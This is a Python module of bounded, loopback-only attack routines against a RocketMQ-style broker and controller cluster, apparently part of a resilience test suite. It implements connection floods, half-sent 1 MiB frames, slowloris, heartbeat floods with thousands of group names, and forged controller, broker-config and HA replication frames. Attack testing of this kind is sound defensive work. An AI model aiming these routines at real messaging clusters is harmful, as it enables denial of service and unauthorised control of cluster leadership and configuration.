"""Attacks from the same network on an open port.

Each strike is bounded, stays on loopback, and returns its number of attempts.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import struct
from dataclasses import dataclass
from typing import TYPE_CHECKING

from rocketmq_remoting.codec import encode
from rocketmq_remoting.codes import RequestCode
from rocketmq_remoting.command import request
from rocketmq_replica.ha.frames import Acknowledgement, Handshake

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable, Iterable

    from rocketmq_remoting.command import RemotingCommand

MEBIBYTE = 1 << 20
PATIENCE_SECONDS = 5.0


@dataclass(frozen=True)
class Target:
    """The ports of one system, and the attacker's knowledge of its group."""

    name: str
    remoting: tuple[str, ...]
    """host:port of brokers and controllers."""
    controllers: tuple[str, ...]
    brokers: tuple[str, ...]
    ha: tuple[str, ...]
    group: str
    cluster: str


# The size of the strikes.
CONNECTIONS, HALF_FRAMES, NAMES, SLOW_SECONDS = 400, 900, 30_000, 20.0


@contextlib.asynccontextmanager
async def connected(address: str, count: int) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Open up to ``count`` connections to one port, as many as it accepts; read and drop its answers."""
    host, _, port = address.rpartition(":")
    writers: list[asyncio.StreamWriter] = []
    readers: list[asyncio.Task[None]] = []
    try:
        for _ in range(count):
            try:
                async with asyncio.timeout(PATIENCE_SECONDS):
                    reader, writer = await asyncio.open_connection(host, int(port))
            except (OSError, TimeoutError):
                break
            writers.append(writer)
            readers.append(asyncio.create_task(_forget(reader)))
        yield writers
    finally:
        for task in readers:
            task.cancel()
        for writer in writers:
            writer.transport.abort()
        await asyncio.gather(*readers, return_exceptions=True)


async def _forget(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def _write(writer: asyncio.StreamWriter, data: bytes) -> bool:
    """Write; False if the peer has closed, or accepts no more bytes."""
    try:
        writer.write(data)
        async with asyncio.timeout(PATIENCE_SECONDS):
            await writer.drain()
    except (OSError, TimeoutError, RuntimeError):
        return False
    return not writer.is_closing()


async def _send_all(address: str, frames: Iterable[bytes], *, connections: int = 4, at_once: int = 64) -> int:
    """Send frames over a few connections, and reopen closed ones."""
    sent = 0
    todo = list(frames)
    while todo:
        async with connected(address, connections) as writers:
            if not writers:
                return sent
            alive = list(writers)
            while todo and alive:
                for writer in list(alive):
                    part, todo = todo[:at_once], todo[at_once:]
                    sent += len(part)
                    if not await _write(writer, b"".join(part)):
                        alive.remove(writer)
            await asyncio.sleep(0.05)
    return sent


async def flood(target: Target) -> int:
    """Send random bytes, and well-formed frames of an unknown code, over many connections to each port."""
    unknown = encode(request(9999, body=b"x" * 512))
    struck = 0
    for address in (*target.remoting, *target.ha):
        async with connected(address, CONNECTIONS) as writers:
            for writer in writers:
                struck += 1
                await _write(writer, os.urandom(4096))
        struck += await _send_all(address, [unknown] * (20 * CONNECTIONS))
    return struck


async def half_frames(target: Target) -> int:
    """Send frames of 1 MiB without their last byte, as many as the port accepts, and hold all open."""
    half = struct.pack(">i", MEBIBYTE) + bytes(MEBIBYTE - 5)
    struck = 0
    for address in target.remoting:
        async with connected(address, HALF_FRAMES) as writers:
            for writer in writers:
                struck += 1
                await _write(writer, half)
            await asyncio.sleep(1.0)
    return struck


async def slowloris(target: Target) -> int:
    """Send one byte each half second on many connections."""
    struck = 0
    async with contextlib.AsyncExitStack() as stack:
        writers: list[asyncio.StreamWriter] = []
        for address in (*target.remoting, *target.ha):
            writers += await stack.enter_async_context(connected(address, CONNECTIONS))
        struck = len(writers)
        for byte in range(int(SLOW_SECONDS / 0.5)):
            for writer in writers:
                if not writer.is_closing():
                    writer.write(b"\0" if byte < 2 else b"\1")  # a length of 64 KiB and more
            await asyncio.sleep(0.5)
    return struck


async def heartbeats(target: Target) -> int:
    """Send 34 with 3,000 consumer groups, then with 100 at a time, each time with other names."""
    big = _heartbeat(f"big-{number}" for number in range(3000))
    many = [_heartbeat(f"g{page}-{number}" for number in range(100)) for page in range(NAMES // 1000)]
    struck = 0
    for address in target.brokers:
        struck += await _send_all(address, [big] * 3 + many, at_once=1)
    return struck


def _heartbeat(groups: Iterable[str]) -> bytes:
    consumers = [{"groupName": name, "subscriptionDataSet": []} for name in groups]
    body = json.dumps({"clientID": "attacker", "consumerDataSet": consumers, "producerDataSet": []})
    return encode(request(RequestCode.HEART_BEAT, body=body.encode()))


async def names(target: Target) -> int:
    """Send requests with made-up group names to the controllers: next id, apply id, registration, heartbeat, a query for each."""
    struck = 0
    for address in target.controllers:
        frames = (
            encode(command)
            for number in range(NAMES // 5)
            for command in _about(f"made\nup-{number}", "DefaultCluster", number)
        )
        struck += await _send_all(address, frames)
    return struck


def _about(group: str, cluster: str, number: int) -> list[RemotingCommand]:
    names_of = {"clusterName": cluster, "brokerName": group}
    mine = {**names_of, "brokerId": "1", "brokerAddress": f"127.0.0.1:{20000 + number % 20000}"}
    return [
        request(RequestCode.CONTROLLER_GET_NEXT_BROKER_ID, ext_fields=names_of),
        request(
            RequestCode.CONTROLLER_APPLY_BROKER_ID,
            ext_fields={**names_of, "appliedBrokerId": "1", "registerCheckCode": f"127.0.0.1:1;{number}"},
        ),
        request(RequestCode.CONTROLLER_REGISTER_BROKER, ext_fields=mine),
        request(RequestCode.BROKER_HEARTBEAT, ext_fields={**mine, "brokerAddr": mine["brokerAddress"]}),
        request(RequestCode.CONTROLLER_GET_REPLICA_INFO, ext_fields={"brokerName": group}),
    ]


async def forged(target: Target) -> int:
    """Send requests that only controllers, operators and members may send: 1008, 906, 25; 1001, 1002, 1003, 1011, 1013, 904."""
    body = json.dumps({"syncStateSet": [1, 2, 3], "syncStateSetEpoch": 99}).encode()
    role = {"masterAddress": "127.0.0.1:1", "masterBrokerId": "9", "masterEpoch": "999", "syncStateSetEpoch": "99"}
    to_brokers = [
        request(RequestCode.NOTIFY_BROKER_ROLE_CHANGED, ext_fields=role, body=body),
        request(RequestCode.UPDATE_BROKER_CONFIG, body=b"minInSyncReplicas=9\nbrokerPermission=0\n"),
        request(
            RequestCode.EXCHANGE_BROKER_HA_INFO, ext_fields={"masterHaAddress": "127.0.0.1:1", "masterFlushOffset": "0"}
        ),
    ]
    named = {"clusterName": target.cluster, "brokerName": target.group}
    to_controllers = [
        request(
            RequestCode.CONTROLLER_ALTER_SYNC_STATE_SET,
            ext_fields={"brokerName": target.group, "masterBrokerId": "1", "masterEpoch": "1"},
            body=b'{"syncStateSet":[1],"syncStateSetEpoch":1}',
        ),
        request(RequestCode.CONTROLLER_ELECT_MASTER, ext_fields={**named, "brokerId": "2", "designateElect": "true"}),
        request(RequestCode.CLEAN_BROKER_DATA, ext_fields={**named, "brokerControllerIdsToClean": "1;2;3"}),
        request(
            RequestCode.CONTROLLER_APPLY_BROKER_ID,
            ext_fields={**named, "appliedBrokerId": "4", "registerCheckCode": "127.0.0.1:1;1"},
        ),
        request(
            RequestCode.CONTROLLER_REGISTER_BROKER,
            ext_fields={**named, "brokerId": "1", "brokerAddress": "127.0.0.1:1"},
        ),
        request(
            RequestCode.BROKER_HEARTBEAT,
            ext_fields={**named, "brokerId": "1", "brokerAddr": "127.0.0.1:1", "epoch": "999", "maxOffset": "1"},
        ),
    ]
    struck = 0
    for address in target.brokers:
        struck += await _send_all(address, [encode(command) for command in to_brokers * 20], at_once=3)
    for address in target.controllers:
        struck += await _send_all(address, [encode(command) for command in to_controllers * 20], at_once=6)
    return struck


async def ha_frames(target: Target) -> int:
    """Send false handshakes and acknowledgements of members, and frames of a false master."""
    transfer = struct.pack(">iiqiqq", 2, 4, 0, 999, 0, 1 << 40) + b"evil"
    struck = 0
    for _ in range(20):
        for address in target.ha:
            for broker_id in (1, 2, 3, 99, -1):
                for data in (
                    Handshake(broker_id).encode() + Acknowledgement(1 << 40).encode(),
                    Handshake(broker_id).encode() + Acknowledgement(0).encode(),
                    transfer,
                ):
                    async with connected(address, 1) as writers:
                        for writer in writers:
                            struck += 1
                            await _write(writer, data)
    return struck


STRIKES: dict[str, Callable[[Target], Awaitable[int]]] = {
    "flood": flood,
    "half frames": half_frames,
    "slowloris": slowloris,
    "heartbeats of many groups": heartbeats,
    "made-up names": names,
    "forged requests": forged,
    "forged HA frames": ha_frames,
}
